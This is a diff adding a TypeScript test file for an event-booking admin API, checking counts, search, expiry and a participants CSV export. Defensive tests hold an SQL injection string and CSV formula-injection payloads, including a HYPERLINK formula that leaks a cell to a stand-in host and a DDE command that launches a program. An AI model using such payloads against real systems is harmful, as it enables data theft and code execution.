@@ -1,0 +1,189 @@
+import { sql } from "kysely";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { newRowId } from "#platform/ids.ts";
+import { anEventDraft } from "#tests/builders/event-draft.ts";
+import { anOrganizer } from "#tests/builders/organizer.ts";
+import { aVisitor, payAt } from "#tests/builders/visitor.ts";
+import { openTestStartline, type TestStartline } from "#tests/setup/startline.ts";
+
+let opened: TestStartline;
+let organizer: Awaited<ReturnType<typeof anOrganizer>>;
+const door = (path: string, init?: RequestInit) => opened.api.request(path, init);
+
+beforeAll(async () => {
+  opened = await openTestStartline();
+  organizer = await anOrganizer(door, { signIn: opened.startline.signIn, publicUrl: "http://localhost:3000" });
+});
+afterAll(() => opened.close());
+
+async function anEventOf(change = {}): Promise<{ id: string; slug: string }> {
+  const { id, slug } = (await organizer.ask("POST", "/api/admin/events", anEventDraft(change))).body;
+  await organizer.ask("POST", `/api/admin/events/${slug}/publish`, {});
+  return { id, slug };
+}
+
+/** Somebody who went through the whole sale and paid. */
+async function aConfirmedVisitor(slug: string, person: object = {}) {
+  const visitor = aVisitor(door, { slug, categoryId: "100-km" });
+  Object.assign(visitor.person, person);
+  const orderId = await visitor.toCheckout();
+  const paid = await visitor.verify(await payAt(opened.razorpay.url, orderId));
+  expect(paid.body.state).toBe("confirmed");
+  return visitor;
+}
+
+const listed = async (slug: string, query = "") =>
+  (await organizer.ask("GET", `/api/admin/events/${slug}/bookings?${query}`)).body;
+const namesOf = (page: { bookings: { name: string }[] }) => page.bookings.map((booking) => booking.name).sort();
+
+/** Rows of a CSV whose cells hold no line break. */
+async function exported(slug: string, query = ""): Promise<{ text: string; header: string[]; rows: string[][] }> {
+  const reply = await door(`/api/admin/events/${slug}/participants.csv?${query}`, { headers: organizer.headers });
+  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await reply.arrayBuffer());
+  const cellsOf = (line: string) =>
+    [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
+      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
+    );
+  const [header = "", ...lines] = text.slice(1).trimEnd().split("\r\n");
+  return { text, header: cellsOf(header), rows: lines.map(cellsOf) };
+}
+
+test("the counts say who has a place, what was paid, and what is owed to people", async () => {
+  const { slug } = await anEventOf();
+  await aConfirmedVisitor(slug);
+  const holder = aVisitor(door, { slug, categoryId: "50-km" });
+  await holder.join();
+  await holder.claim();
+
+  const { body } = await organizer.ask("GET", `/api/admin/events/${slug}/counts`);
+  expect(body).toMatchObject({
+    state: "published",
+    capacity: 100,
+    confirmed: 1,
+    held: 1,
+    called: 0,
+    free: 98,
+    waiting: 0,
+    revenuePaise: 152_500,
+    platformFeePaise: 2500,
+    messages: { queued: 2, failed: 0 },
+    troubles: [],
+    categories: [
+      { id: "100-km", name: "100 km", capacity: 80, held: 0, confirmed: 1 },
+      { id: "50-km", name: "50 km", capacity: 40, held: 1, confirmed: 0 },
+    ],
+  });
+  expect(body.confirmedPerMinute).toHaveLength(16);
+  expect(body.confirmedPerMinute.reduce((sum: number, { count }: { count: number }) => sum + count, 0)).toBe(1);
+});
+
+test("bookings are found by part of a name, number, address or reference", async () => {
+  const { slug } = await anEventOf();
+  await aConfirmedVisitor(slug, { name: "Meera Joshi", phone: "+919812300001", email: "meera_j@club.example" });
+  await aConfirmedVisitor(slug, { name: "मीरा जोशी", phone: "+919812300002", email: "meeraxj@club.example" });
+  const { reference } = (await listed(slug, "search=Meera%20J")).bookings[0];
+
+  expect(namesOf(await listed(slug))).toEqual(["Meera Joshi", "मीरा जोशी"]);
+  expect(namesOf(await listed(slug, "search=joshi"))).toEqual(["Meera Joshi"]);
+  expect(namesOf(await listed(slug, `search=${encodeURIComponent("जोशी")}`))).toEqual(["मीरा जोशी"]);
+  expect(namesOf(await listed(slug, `search=${encodeURIComponent("98123 00002")}`))).toEqual(["मीरा जोशी"]);
+  expect(namesOf(await listed(slug, `search=${reference.toLowerCase().replace("-", "")}`))).toEqual(["Meera Joshi"]);
+  expect(namesOf(await listed(slug, "search=nobody"))).toEqual([]);
+});
+
+test("what is searched for is text, not a pattern and not SQL", async () => {
+  const { slug } = await anEventOf();
+  await aConfirmedVisitor(slug, { name: "Meera Joshi", email: "meera_j@club.example" });
+  await aConfirmedVisitor(slug, { name: "Meera Jog", email: "meeraxj@club.example" });
+
+  expect(namesOf(await listed(slug, "search=meera_j%40club"))).toEqual(["Meera Joshi"]);
+  for (const search of ["%", "_", "%' OR '1'='1", "\\"]) {
+    expect({ search, names: namesOf(await listed(slug, `search=${encodeURIComponent(search)}`)) }).toEqual({
+      search,
+      names: search === "_" ? ["Meera Joshi"] : [],
+    });
+  }
+});
+
+test("a place that nobody keeps any more is listed as expired before any job wrote it down", async () => {
+  const { slug, id } = await anEventOf();
+  const visitor = aVisitor(door, { slug, categoryId: "100-km" });
+  await visitor.join();
+  await visitor.claim();
+  await sql`UPDATE bookings SET kept_until = now() - interval '1 second' WHERE event_id = ${id}`.execute(
+    opened.startline.db,
+  );
+
+  expect((await listed(slug, "state=expired")).total).toBe(1);
+  expect((await listed(slug, "state=held")).total).toBe(0);
+});
+
+test("the export is UTF-8 with a byte order mark, and has all that the organizer needs of each participant", async () => {
+  const { slug } = await anEventOf({
+    questions: [{ id: "jersey", label: "Jersey size", options: ["S", "M"], isRequired: false }],
+  });
+  await aConfirmedVisitor(slug, {
+    name: "मीरा जोशी",
+    phone: "+919812300003",
+    email: "m@club.example",
+    answers: { jersey: "M" },
+  });
+
+  const { text, header, rows } = await exported(slug);
+  expect(text.charCodeAt(0)).toBe(0xfeff);
+  const row = Object.fromEntries(header.map((name, index) => [name, rows[0]?.[index]]));
+  expect(row).toMatchObject({
+    state: "confirmed",
+    category: "100 km",
+    name: "मीरा जोशी",
+    phone: "'+919812300003",
+    email: "m@club.example",
+    language: "en",
+    amount_rupees: "1525",
+    platform_fee_rupees: "25",
+    waiver_version: "1",
+    queue_number: "1",
+    "Jersey size": "M",
+    other_answers: "",
+  });
+  expect(row.reference).toMatch(/^\w{4}-\w{4}$/);
+  expect(row.payment_id).toMatch(/^pay_/);
+  expect(row.confirmed_at_ist).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
+});
+
+test("no cell of the export can be run as a formula", async () => {
+  const { slug } = await anEventOf({ questions: [{ id: "note", label: "=Note", isRequired: false }] });
+  await aConfirmedVisitor(slug, {
+    name: '=HYPERLINK("http://evil.example?"&A1,"Asha")',
+    answers: { note: "@SUM(1+1)*cmd|' /C calc'!A0" },
+  });
+  await aConfirmedVisitor(slug, { name: "-2+3 Asha", answers: { note: "+1" } });
+
+  const { header, rows } = await exported(slug);
+  const cells = [...header, ...rows.flat()];
+  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  expect(cells).toContain(`'=HYPERLINK("http://evil.example?"&A1,"Asha")`);
+});
+
+test("the export has every row exactly once, however many reads it takes", async () => {
+  const { slug, id } = await anEventOf({
+    capacity: 5000,
+    categories: [{ id: null, name: "100 km", capacity: 5000, ticketPricePaise: 1000 }],
+  });
+  const wanted = 1203;
+  const ids = Array.from({ length: wanted }, () => newRowId("bkg", id));
+  // Many share a microsecond, so that only the id tells them apart.
+  await sql`INSERT INTO bookings (event_id, id, category_id, reference, state, ticket_id, amount_paise, platform_fee_paise,
+      hold_expires_at, kept_until, created_at, confirmed_at)
+    SELECT ${id}, b, '100-km', b, CASE WHEN n % 3 = 0 THEN 'released' ELSE 'confirmed' END, b, 3500, 2500, now(), now(),
+      timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond',
+      CASE WHEN n % 3 = 0 THEN NULL ELSE timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond' END
+    FROM unnest(${ids}::text[]) WITH ORDINALITY AS u (b, n)`.execute(opened.startline.db);
+
+  const all = await exported(slug, "all=1");
+  expect(new Set(all.rows.map((row) => row[0])).size).toBe(wanted);
+  expect(all.rows).toHaveLength(wanted);
+  const confirmed = await exported(slug);
+  expect(confirmed.rows).toHaveLength(802);
+  expect(new Set(confirmed.rows.map((row) => row[1]))).toEqual(new Set(["confirmed"]));
+});
